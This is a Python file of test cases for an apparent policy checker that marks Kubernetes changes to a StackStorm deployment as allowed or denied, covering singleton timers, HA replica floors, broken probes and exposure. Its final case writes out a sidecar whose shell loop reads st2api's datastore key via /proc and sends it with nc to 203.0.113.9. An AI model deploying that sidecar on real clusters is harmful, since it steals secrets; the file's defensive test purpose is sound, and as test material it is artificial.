from lib import *
import copy
def dep_patch(id, env, exp, cls, dep, ops, reason):
    case(id, env, exp, cls, reason, kz={'patches': [jp('Deployment', dep, ops)]})
TIMERS_POD = {'containers': [{'name': 'st2timersengine', 'image': 'stackstorm/st2timersengine:3.8.1', 'command': ['/opt/stackstorm/st2/bin/st2timersengine'],
    'args': ['--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.user.conf'],
    'volumeMounts': [{'name': 'st2-config-vol', 'mountPath': '/etc/st2/st2.docker.conf', 'subPath': 'st2.docker.conf'}, {'name': 'st2-config-vol', 'mountPath': '/etc/st2/st2.user.conf', 'subPath': 'st2.user.conf'}]}],
    'volumes': [{'name': 'st2-config-vol', 'configMap': {'name': 'st2-config'}}]}
case('ha-podtemplate-timers', 'prod', 'allow', 'singleton-safe',
  "a core/v1 PodTemplate object is only a stored template: nothing runs it (no controller creates pods from a bare PodTemplate), so no second timers engine",
  kz={'resources': ['pt.yaml']}, files={'pt.yaml': {'apiVersion': 'v1', 'kind': 'PodTemplate', 'metadata': {'name': 'st2timersengine-debug', 'namespace': 'st2-prod'}, 'template': {'metadata': {'labels': {'app': 'st2timersengine-debug'}}, 'spec': TIMERS_POD}}})
case('ha-runbook-configmap', 'prod', 'allow', 'singleton-safe',
  "a runbook ConfigMap quoting a Deployment manifest (replicas: 2 of the timers engine) that no pod mounts: documentation only",
  kz={'resources': ['rb.yaml']}, files={'rb.yaml': {'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': 'runbook-timers', 'namespace': 'st2-prod'},
    'data': {'README.md': "Never do this:\n\n```yaml\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2timersengine\nspec:\n  replicas: 2\n```\n"}}})
case('ha-replicaset-timers', 'prod', 'deny', 'singleton',
  "a bare ReplicaSet running a second st2timersengine beside the Deployment's: every timer fires twice (§3)",
  kz={'resources': ['rs.yaml']}, files={'rs.yaml': {'apiVersion': 'apps/v1', 'kind': 'ReplicaSet', 'metadata': {'name': 'timers-extra', 'namespace': 'st2-prod'},
    'spec': {'replicas': 1, 'selector': {'matchLabels': {'app': 'timers-extra'}}, 'template': {'metadata': {'labels': {'app': 'timers-extra'}}, 'spec': TIMERS_POD}}}})
bare = copy.deepcopy(TIMERS_POD)
case('ha-bare-pod-timers', 'prod', 'deny', 'singleton',
  "a bare Pod running st2timersengine beside the Deployment's: two timers engines (§3)",
  kz={'resources': ['pod.yaml']}, files={'pod.yaml': {'apiVersion': 'v1', 'kind': 'Pod', 'metadata': {'name': 'timers-debug', 'namespace': 'st2-prod'}, 'spec': bare}})
dep_patch('ha-timers-maxsurge0', 'prod', 'allow', 'singleton-safe', 'st2timersengine',
  [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': 0, 'maxUnavailable': 1}}}],
  "RollingUpdate with maxSurge 0: the old pod stops before the new one starts (README accepts it)")
dep_patch('ha-timers-maxsurge-pct', 'prod', 'deny', 'singleton', 'st2timersengine',
  [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': '1%', 'maxUnavailable': 0}}}],
  "maxSurge 1% of 1 replica rounds UP to 1 (Deployment controller rounds surge up): the new timers engine starts before the old stops -> two engines during every rollout")
dep_patch('ha-timers-maxunavail-0-surge-0pct', 'prod', 'allow', 'singleton-safe', 'st2timersengine',
  [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': '0%', 'maxUnavailable': '100%'}}}],
  "maxSurge 0% = 0: never two pods")
dep_patch('ha-sensor-paused', 'prod', 'allow', 'singleton-safe', 'st2api', [{'op': 'add', 'path': '/spec/minReadySeconds', 'value': 10}],
  "st2api minReadySeconds 10: slower, safer rollouts")
case('ha-api-hpa', 'prod', 'allow', 'ha-safe', "HPA for st2api between 3 and 6 on CPU: never below prod's 3",
  kz={'resources': ['hpa.yaml']}, files={'hpa.yaml': {'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2api', 'namespace': 'st2-prod'},
    'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2api'}, 'minReplicas': 3, 'maxReplicas': 6, 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 70}}}]}}})
case('ha-runner-hpa-min1', 'prod', 'deny', 'ha',
  "HPA on st2actionrunner with minReplicas 1: at night it scales to one runner, a single node loss stops all executions (README: runners are active-active with a floor of 2)",
  kz={'resources': ['hpa.yaml']}, files={'hpa.yaml': {'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2actionrunner', 'namespace': 'st2-prod'},
    'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2actionrunner'}, 'minReplicas': 1, 'maxReplicas': 10, 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 70}}}]}}})
case('ha-st2web-2', 'prod', 'allow', 'ha-safe', "st2web at 2 replicas: still HA", kz={'replicas': [{'name': 'st2web', 'count': 2}]})
case('ha-notifier-2', 'prod', 'allow', 'ha-safe', "st2notifier at 2 (coordination-backed, HA in st2 3.x)", kz={'replicas': [{'name': 'st2notifier', 'count': 2}]})
case('ha-runner-12', 'prod', 'allow', 'ha-safe', "12 action runners for more load", kz={'replicas': [{'name': 'st2actionrunner', 'count': 12}]})
case('ha-client-0', 'prod', 'allow', 'ha-safe', "st2client (an operator shell) scaled to 0: no service depends on it (README spares it)", kz={'replicas': [{'name': 'st2client', 'count': 0}]})
case('ha-scheduler-0-replicas-field', 'prod', 'deny', 'ha',
  "st2scheduler at 0: executions stay 'requested' forever (§12: st2scheduler is required)", kz={'replicas': [{'name': 'st2scheduler', 'count': 0}]})
dep_patch('ha-workflowengine-paused', 'prod', 'deny', 'ha', 'st2workflowengine', [{'op': 'add', 'path': '/spec/paused', 'value': True}, {'op': 'replace', 'path': '/spec/template/spec/containers/0/image', 'value': 'stackstorm/st2workflowengine:3.8.1'}],
  "spec.paused true: on a new or rebuilt cluster the controller creates no ReplicaSet for a paused Deployment, so no workflow engine runs; on an existing one every later template change never rolls out")
dep_patch('out-liveness-kills-startup', 'prod', 'deny', 'outage', 'st2api',
  [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'tcpSocket': {'port': 9101}, 'initialDelaySeconds': 0, 'periodSeconds': 1, 'timeoutSeconds': 1, 'failureThreshold': 1}}],
  "liveness probe with no delay and one failure allowed: st2api needs seconds to load config and connect to MongoDB/RabbitMQ before listening on 9101; the kubelet kills it every time -> CrashLoopBackOff, API down")
dep_patch('out-liveness-exec-false', 'prod', 'deny', 'outage', 'st2rulesengine',
  [{'op': 'add', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'exec': {'command': ['false']}, 'initialDelaySeconds': 30, 'periodSeconds': 10}}],
  "exec liveness probe `false` always fails: every rules engine restarts every ~60 s, rules dropped mid-evaluation")
dep_patch('out-command-typo', 'prod', 'deny', 'outage', 'st2scheduler',
  [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/0', 'value': '/opt/stackstorm/st2/bin/st2-scheduler'}],
  "no /opt/stackstorm/st2/bin/st2-scheduler in the image: container fails to start (exec not found), no scheduler -> executions stay requested (§12)")
dep_patch('out-st2api-readonly-token', 'prod', 'allow', 'hardening-safe', 'st2api',
  [{'op': 'add', 'path': '/spec/template/spec/automountServiceAccountToken', 'value': False}, {'op': 'add', 'path': '/spec/template/spec/enableServiceLinks', 'value': False}],
  "no service-account token and no service env links in st2api's pods: st2api does not call the Kubernetes API; hardening only")
dep_patch('out-st2api-limits-up', 'prod', 'allow', 'hardening-safe', 'st2api',
  [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources', 'value': {'requests': {'cpu': '250m', 'memory': '512Mi'}, 'limits': {'cpu': '2', 'memory': '1Gi', 'ephemeral-storage': '1Gi'}}}],
  "more cpu and memory for st2api")
dep_patch('out-runner-tolerate-pool', 'prod', 'allow', 'hardening-safe', 'st2actionrunner',
  [{'op': 'add', 'path': '/spec/template/spec/tolerations', 'value': [{'key': 'dedicated', 'operator': 'Equal', 'value': 'st2', 'effect': 'NoSchedule'}]}],
  "tolerate a dedicated node pool taint")
dep_patch('out-api-nodeselector-linux', 'prod', 'allow', 'hardening-safe', 'st2api',
  [{'op': 'add', 'path': '/spec/template/spec/nodeSelector', 'value': {'kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'amd64'}}],
  "pin to linux/amd64 nodes, which the st2 images are built for")
dep_patch('out-auth-prestop', 'prod', 'allow', 'hardening-safe', 'st2auth',
  [{'op': 'add', 'path': '/spec/template/spec/terminationGracePeriodSeconds', 'value': 60}],
  "longer grace period for st2auth")
dep_patch('out-revision-history', 'prod', 'allow', 'hardening-safe', 'st2stream',
  [{'op': 'add', 'path': '/spec/revisionHistoryLimit', 'value': 3}, {'op': 'add', 'path': '/spec/progressDeadlineSeconds', 'value': 900}],
  "rollout bookkeeping only")
dep_patch('out-prometheus-annotations', 'prod', 'allow', 'hardening-safe', 'st2workflowengine',
  [{'op': 'add', 'path': '/spec/template/metadata/annotations/prometheus.io~1scrape', 'value': 'false'}],
  "metadata annotation only")
dep_patch('out-downscaler-exclude', 'prod', 'allow', 'hardening-safe', 'st2api',
  [{'op': 'add', 'path': '/metadata/annotations', 'value': {'downscaler/exclude': 'true'}}],
  "kube-downscaler told to leave st2api alone: stricter")
dep_patch('out-hostnetwork-runner', 'prod', 'deny', 'exposure', 'st2actionrunner',
  [{'op': 'add', 'path': '/spec/template/spec/hostNetwork', 'value': True}, {'op': 'add', 'path': '/spec/template/spec/dnsPolicy', 'value': 'ClusterFirstWithHostNet'}],
  "action runners on the host network: any st2 user's action reaches node-local services (kubelet, cloud metadata) and binds node ports")
dep_patch('out-shareprocess-sidecar', 'prod', 'deny', 'exfiltration', 'st2api',
  [{'op': 'add', 'path': '/spec/template/spec/shareProcessNamespace', 'value': True},
   {'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': {'name': 'debug', 'image': 'nicolaka/netshoot:v0.13', 'command': ['sh', '-c', 'sleep 30; for p in /proc/[0-9]*; do cat $p/root/etc/st2/keys/datastore_key.json 2>/dev/null && break; done | nc 203.0.113.9 4444; sleep infinity'], 'securityContext': {'runAsUser': 1000, 'runAsGroup': 1000, 'allowPrivilegeEscalation': False},
     'resources': {'limits': {'cpu': '100m', 'memory': '128Mi'}}}}],
  "a sidecar sharing st2api's process namespace runs as st2's uid 1000 and reads st2api's mounted datastore key through /proc/<pid>/root (same uid: allowed without CAP_SYS_PTRACE) and sends it with nc to a public IP")
